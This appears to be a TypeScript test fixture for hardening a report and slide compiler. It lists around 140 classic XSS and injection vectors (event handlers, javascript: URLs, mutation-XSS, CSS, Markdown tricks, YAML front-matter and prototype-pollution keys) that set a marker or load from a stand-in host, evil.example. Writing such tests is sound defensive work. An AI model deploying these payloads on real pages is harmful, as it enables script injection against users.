/**
 * Script-injection vectors for the hardening tests, and reports that carry them in every place
 * report text reaches the screen: the title block, section and sub-headings, paragraph leads
 * (slide titles), enumerations (points), notes, Markdown bodies, reveal.js attribute comments and
 * YAML front matter. Each vector, if it ever ran, would trip a wire that names it: set
 * window.__pwned / top.__pwned, call alert(), fetch /pwned/<id>, or load something from
 * http://evil.example/. Vectors are the classics: tags, event handlers, javascript:/data:/vbscript:
 * URLs, SVG, <iframe srcdoc>, CSS expression()/url(), <meta refresh>, <base>, <form action>,
 * Markdown link and image tricks, HTML entities, mutation-XSS, template and JSON-breakout strings.
 */

export const EVIL_ORIGIN = 'http://evil.example';

/** `{js}` sets the wire in the page, `{top}` from a nested frame, `{id}` names the vector. */
const TEMPLATES: readonly string[] = [
  // Script elements, and ways of sneaking one in.
  '<script>{js}</script>',
  '<SCRIPT>{js}</SCRIPT>',
  '<script type="module">{js}</script>',
  `<script src="${EVIL_ORIGIN}/{id}.js"></script>`,
  '<scr<script>ipt>{js}</scr</script>ipt>',
  '<script>fetch("/pwned/{id}")</script>',
  '<script>alert("{id}")</script>',
  '<template><script>{js}</script></template>',
  '<svg><script>{js}</script></svg>',
  '<svg><script href="data:text/javascript,{js}"/></svg>',
  // Event handlers.
  '<img src=x onerror="{js}">',
  '<img src=x onerror={js}>',
  '<IMG SRC=x ONERROR="{js}">',
  '<img/src=x/onerror={js}>',
  '<img src=x onerror="alert(\'{id}\')">',
  '<img src=x onerror="fetch(\'/pwned/{id}\')">',
  '<img src=x onerror="eval(atob(\'{b64}\'))">',
  '<img src=x onerror=&#119;indow.__pwned=&#39;{id}&#39;>',
  '<img srcset="x" onerror="{js}">',
  '<svg onload="{js}">',
  '<svg onload=alert("{id}")>',
  '<svg><animate onbegin="{js}" attributeName="x" dur="1s"/></svg>',
  '<svg><set attributeName="onload" to="{js}"/></svg>',
  '<body onload="{js}">',
  '<frameset onload="{js}">',
  '<input onfocus="{js}" autofocus>',
  '<select onfocus="{js}" autofocus></select>',
  '<textarea onfocus="{js}" autofocus></textarea>',
  '<div tabindex="1" onfocusin="{js}" autofocus>x</div>',
  '<details open ontoggle="{js}">x</details>',
  '<marquee onstart="{js}">x</marquee>',
  '<video><source onerror="{js}"></video>',
  '<audio src=x onerror="{js}"></audio>',
  '<video src=x onloadstart="{js}" autoplay></video>',
  '<div onmouseover="{js}" style="position:fixed;inset:0">x</div>',
  '<a href="#" onclick="{js}">点我</a>',
  '<style onload="{js}"></style>',
  '<isindex type=image src=1 onerror="{js}">',
  '<object onerror="{js}"></object>',
  '<img src="x` `<script>{js}</script>"` `>',
  // URLs with a script scheme.
  '<a href="javascript:{js}">链接</a>',
  '<a href="JaVaScRiPt:{js}">链接</a>',
  '<a href="&#106;avascript:{js}">链接</a>',
  '<a href="javas&#x09;cript:{js}">链接</a>',
  '<a href=" javascript:{js}">链接</a>',
  '<a href="vbscript:msgbox(\'{id}\')">链接</a>',
  '<a href="data:text/html,<script>{top}</script>">链接</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0nYjY0Jzwvc2NyaXB0Pg==">链接</a>',
  '<iframe src="javascript:{top}"></iframe>',
  '<iframe src="data:text/html,<script>{top}</script>"></iframe>',
  '<iframe srcdoc="<script>{top}</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=&quot;{top}&quot;&gt;"></iframe>',
  `<iframe src="${EVIL_ORIGIN}/{id}.html"></iframe>`,
  '<object data="javascript:{js}"></object>',
  '<object data="data:text/html,<script>{top}</script>"></object>',
  '<embed src="javascript:{js}">',
  '<embed src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'{top}\'/>">',
  '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'{js}\'/>">',
  '<svg><a xlink:href="javascript:{js}"><text y="20">x</text></a></svg>',
  '<svg><a href="javascript:{js}"><text y="20">x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror="{js}"></foreignObject></svg>',
  '<form action="javascript:{js}"><input type="submit"></form>',
  '<form><button formaction="javascript:{js}">提交</button></form>',
  `<form action="${EVIL_ORIGIN}/{id}" method="post"><input name="x" value="1"></form>`,
  '<video poster="javascript:{js}"></video>',
  '<table background="javascript:{js}"><tr><td>x</td></tr></table>',
  // Documents and navigation.
  '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
  `<meta http-equiv="refresh" content="0;url=${EVIL_ORIGIN}/{id}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
  `<base href="${EVIL_ORIGIN}/">`,
  '<base href="javascript:{js}//">',
  `<link rel="stylesheet" href="${EVIL_ORIGIN}/{id}.css">`,
  `<link rel="prefetch" href="${EVIL_ORIGIN}/{id}">`,
  `<link rel="import" href="${EVIL_ORIGIN}/{id}.html">`,
  `<a href="${EVIL_ORIGIN}/" ping="${EVIL_ORIGIN}/{id}-ping">链接</a>`,
  // CSS.
  `<style>@import "${EVIL_ORIGIN}/{id}.css";</style>`,
  `<style>body{background:url(${EVIL_ORIGIN}/{id}.png)}</style>`,
  `<div style="background:url(${EVIL_ORIGIN}/{id}.png)">样式</div>`,
  `<div style="background-image:url('${EVIL_ORIGIN}/{id}.png')">样式</div>`,
  '<div style="width:expression({js})">样式</div>',
  `<div style="behavior:url(${EVIL_ORIGIN}/{id}.htc)">样式</div>`,
  `<svg><style>@import "${EVIL_ORIGIN}/{id}-svg.css";</style></svg>`,
  '<style>*{x:expression({js})}</style>',
  // Foreign loads by plain media.
  `<img src="${EVIL_ORIGIN}/{id}.png">`,
  `<picture><source srcset="${EVIL_ORIGIN}/{id}.png"><img alt=""></picture>`,
  `<video src="${EVIL_ORIGIN}/{id}.mp4" autoplay></video>`,
  `<img data-src="${EVIL_ORIGIN}/{id}-lazy.png">`,
  '<iframe data-src="data:text/html,<script>{top}</script>"></iframe>',
  `<video data-src="${EVIL_ORIGIN}/{id}-lazy.mp4" data-autoplay></video>`,
  // Mutation XSS classics (markup that changes meaning when parsed twice).
  '<math><mtext><table><mglyph><style><img src=x onerror="{js}">',
  '<noscript><p title="</noscript><img src=x onerror={js}>">',
  '<svg></p><style><a id="</style><img src=1 onerror={js}>">',
  '<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={js} src=1>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>',
  '<svg><p><style><img src=x onerror="{js}"></style></p></svg>',
  '<!--<img src=x onerror={js}>-->',
  '<![CDATA[<img src=x onerror={js}>]]>',
  '<xmp><img src=x onerror={js}></xmp>',
  // Breaking out of the places report text lands in (attributes, titles, embedded JSON).
  '"><img src=x onerror={js}>',
  "'><script>{js}</script>",
  '</textarea><script>{js}</script>',
  '</title><script>{js}</script>',
  '</style><script>{js}</script>',
  '</script><script>{js}</script>',
  '<!--</script><script>{js}</script>-->',
  '\u2028\u2029</script><script>{js}</script>',
  '</template><script>{js}</script>',
  // Template and expression syntax some renderers evaluate.
  "{{constructor.constructor('{js}')()}}",
  '${{js}}',
  '<%= {js} %>',
  // Markdown link and image tricks.
  '[点我](javascript:{js})',
  '[点我](JAVASCRIPT:{js})',
  '[点我](<javascript:{js}>)',
  '[点我](javascript&#58;{js})',
  '[点我](data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0nbWQnPC9zY3JpcHQ+)',
  "[点我](vbscript:msgbox('{id}'))",
  '<javascript:{js}>',
  '![图](javascript:{js})',
  '![图](x" onerror="{js})',
  `![图](${EVIL_ORIGIN}/{id}-md.png)`,
  `[![图](${EVIL_ORIGIN}/{id}-nested.png)](javascript:{js})`,
  '**<img src=x onerror={js}>**',
  '`<img src=x onerror={js}>`',
  // Entities that must stay text.
  '&lt;img src=x onerror={js}&gt;',
  '&#60;script&#62;{js}&#60;/script&#62;',
  '&#x3C;svg onload={js}&#x3E;',
  // reveal.js attribute comments.
  '<!-- .element: onclick="{js}" -->',
  '<!-- .element: style="background:url(' + EVIL_ORIGIN + '/{id}-el.png)" -->',
  '<!-- .slide: data-background-iframe="javascript:{js}" -->',
  `<!-- .slide: data-background-image="${EVIL_ORIGIN}/{id}-bg.png" -->`,
  `<!-- .slide: data-background-video="${EVIL_ORIGIN}/{id}-bg.mp4" -->`,
  `<!-- .slide: data-background-iframe="${EVIL_ORIGIN}/{id}-bg.html" -->`,
  '<!-- .slide: onload="{js}" -->',
  '<section data-markdown onload="{js}">x</section>',
  `<div data-background-iframe="${EVIL_ORIGIN}/{id}">x</div>`,
];

export interface Vector {
  id: string;
  payload: string;
}

const base64 = (text: string): string => Buffer.from(text, 'utf8').toString('base64');

/** The corpus: every template with its own id, so a tripped wire names the vector. */
export const VECTORS: readonly Vector[] = TEMPLATES.map((template, index) => {
  const id = `v${String(index + 1).padStart(3, '0')}`;
  const js = `window.__pwned='${id}'`;
  const payload = template
    .replaceAll('{js}', js)
    .replaceAll('{top}', `top.__pwned='${id}'`)
    .replaceAll('{b64}', base64(js))
    .replaceAll('{id}', id);
  return { id, payload };
});

/** YAML front matter lines a deck may carry (the compiler accepts them): payloads in values, tags, prototype keys. */
export const FRONT_MATTER_PAYLOADS: readonly string[] = [
  `title: "<img src=x onerror=\\"window.__pwned='fm-title'\\">会议<script>window.__pwned='fm-script'</script>"`,
  `subtitle: '</title><script>window.__pwned=''fm-subtitle''</script>'`,
  `author: !!js/function "function(){window.__pwned='fm-js-function'}"`,
  '__proto__: { polluted: "fm-proto" }',
  'constructor: { prototype: { polluted: "fm-ctor" } }',
  `lang: "zh<script>window.__pwned='fm-lang'</script>"`,
];

/** Front matter values the compiler must refuse with a DeckError (they are not a theme, language or ratio). */
export const REJECTED_FRONT_MATTER: readonly string[] = [
  `aspect: "16:9<svg onload=window.__pwned='fm-aspect'>"`,
  `rate: "220<img src=x onerror=window.__pwned='fm-rate'>"`,
  `target: "javascript:window.__pwned='fm-target'"`,
];

/** A theme is never refused (issue 16): a payload in its place opens in the default theme, with a notice. */
export const THEME_PAYLOAD = `theme: "official\\" onload=\\"window.__pwned='fm-theme'"`;

/** The corpus in threes: each slide carries three vectors, so a report stays a size Chromium walks through quickly. */
function triples(vectors: readonly Vector[]): [string, string, string][] {
  const out: [string, string, string][] = [];
  for (let i = 0; i < vectors.length; i += 3) {
    const at = (k: number): string => (vectors[(i + k) % vectors.length] as Vector).payload;
    out.push([at(0), at(1), at(2)]);
  }
  return out;
}

/**
 * A plain-text report: the title block, then sections whose sub-headings and paragraph leads
 * (slide titles), enumerations (points) and text (notes) carry the vectors.
 */
export function injectionTextReport(vectors: readonly Vector[] = VECTORS): string {
  const numerals = '一二三四五六七八九十';
  const lines = [`${vectors[0]?.payload ?? ''}全力打造先行镇`, `——在${vectors[1]?.payload ?? ''}代表大会上的报告`, '各位代表、同志们：'];
  const groups = triples(vectors);
  const perSection = Math.ceil(groups.length / numerals.length);
  for (let s = 0; s < numerals.length; s += 1) {
    const section = groups.slice(s * perSection, (s + 1) * perSection);
    if (section.length === 0) break;
    lines.push(`${numerals[s]}、${section[0]?.[2] ?? ''}工作回顾`);
    section.forEach(([a, b, c], i) => {
      lines.push(`（${numerals[i % 10]}）${a}夯实基础`);
      lines.push(`我们秉承“${a}”，打造实力X。一是${b}推进工作。二是${c}加强建设，新增企业X家。`);
    });
  }
  lines.push('谢谢大家！');
  return `${lines.join('\n')}\n`;
}

/** A Markdown report (no slide breaks): headings, paragraphs, lists and quotes carrying the vectors. */
export function injectionMarkdownReport(vectors: readonly Vector[] = VECTORS): string {
  const blocks = [`# ${vectors[0]?.payload ?? ''}工作报告`];
  triples(vectors).forEach(([a, b, c], i) => {
    if (i % 5 === 0) blocks.push(`## ${c}第${i / 5 + 1}部分`);
    blocks.push(`### ${a}标题`, `${b}打造实力X。一是${c}推进工作。二是加强建设。\n- ${a}要点\n> ${b}引文`);
  });
  return `${blocks.join('\n\n')}\n`;
}

/** An explicit reveal.js deck: front matter payloads, then slides with vectors in the title, points, raw body and notes. */
export function injectionRevealDeck(vectors: readonly Vector[] = VECTORS): string {
  const front = ['---', ...FRONT_MATTER_PAYLOADS, 'aspect: "16:9"', '---', ''].join('\n');
  const slides = triples(vectors).map(([a, b, c], i) =>
    [`## ${a}第${i + 1}页`, '', `- ${b}第一点`, `- 第二点 ${c}`, '', c, '', `Note: ${a}讲稿${b}第${i + 1}页${c}`].join('\n'),
  );
  return front + slides.join('\n\n---\n\n') + '\n';
}
